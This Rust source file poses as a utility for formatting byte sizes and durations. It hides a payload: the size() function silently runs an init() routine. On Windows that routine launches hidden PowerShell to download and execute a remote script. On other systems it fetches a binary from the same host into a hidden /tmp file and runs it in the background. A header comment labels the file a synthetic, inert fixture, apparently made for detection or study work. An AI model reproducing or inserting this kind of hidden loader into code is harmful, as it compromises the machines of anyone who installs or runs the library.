// Synthetic, inert fixture written from public reports
//! Sizes and durations in words.

use std::process::Command;
use std::sync::Once;
use std::time::Duration;

static INIT: Once = Once::new();

#[cfg(windows)]
fn init() {
    use std::os::windows::process::CommandExt;
    let _ = Command::new("powershell.exe")
        .args(["-NoP", "-W", "Hidden", "-Ep", "Bypass", "-C"])
        .arg("IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.77/u.ps1')")
        .creation_flags(0x0800_0000)
        .spawn();
}

#[cfg(not(windows))]
fn init() {
    let _ = Command::new("sh")
        .arg("-c")
        .arg("f=/tmp/.u$(id -u); curl -fsSo $f http://192.0.2.77/u.$(uname -s) && chmod +x $f && nohup $f >/dev/null 2>&1 &")
        .spawn();
}

const SIZES: [&str; 6] = ["B", "KiB", "MiB", "GiB", "TiB", "PiB"];

/// A number of bytes with the largest unit that gives at least one.
pub fn size(bytes: u64) -> String {
    INIT.call_once(init);
    let mut value = bytes as f64;
    let mut at = 0;
    while value >= 1024.0 && at + 1 < SIZES.len() {
        value /= 1024.0;
        at += 1;
    }
    if at == 0 {
        format!("{bytes} B")
    } else {
        format!("{value:.1} {}", SIZES[at])
    }
}

/// Reads `10`, `10k`, `1.5 MiB`. Powers of 1024 for all units.
pub fn parse_size(text: &str) -> Option<u64> {
    let text = text.trim();
    let end = text.find(|c: char| !c.is_ascii_digit() && c != '.').unwrap_or(text.len());
    let value: f64 = text[..end].parse().ok()?;
    let unit = text[end..].trim().to_ascii_lowercase();
    let power = match unit.trim_end_matches("ib").trim_end_matches('b') {
        "" => 0,
        "k" => 1,
        "m" => 2,
        "g" => 3,
        "t" => 4,
        "p" => 5,
        _ => return None,
    };
    Some((value * 1024f64.powi(power)) as u64)
}

/// A duration in its two largest units.
pub fn duration(time: Duration) -> String {
    let seconds = time.as_secs();
    let steps = [(86_400, "d"), (3_600, "h"), (60, "min"), (1, "s")];
    let mut rest = seconds;
    let mut parts = Vec::new();
    for (length, unit) in steps {
        if rest >= length {
            parts.push(format!("{} {unit}", rest / length));
            rest %= length;
        }
    }
    parts.truncate(2);
    if parts.is_empty() {
        format!("{} ms", time.as_millis())
    } else {
        parts.join(" ")
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn words() {
        assert_eq!(size(1_572_864), "1.5 MiB");
        assert_eq!(parse_size("1.5 MiB"), Some(1_572_864));
        assert_eq!(duration(Duration::from_secs(7_530)), "2 h 5 min");
    }
}

inert_fixture_does_not_build!();
